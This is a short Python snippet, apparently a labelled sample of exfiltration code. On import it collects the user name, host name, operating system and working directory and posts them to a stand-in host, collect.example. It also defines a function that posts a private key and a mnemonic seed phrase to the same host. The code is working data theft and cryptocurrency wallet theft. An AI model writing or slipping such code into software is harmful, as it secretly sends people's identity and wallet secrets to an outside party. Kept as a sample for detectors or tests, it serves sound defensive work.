# identity, many-host-facts, named-key: who and where; a key by its name
import getpass
import os
import platform
import socket

import requests

facts = {"u": getpass.getuser(), "h": socket.gethostname(), "s": platform.system(), "d": os.getcwd()}
requests.post("https://collect.example/", json=facts)


def keep(key, words):
    requests.post("https://collect.example/", json={"private_key": key, "mnemonic": words})
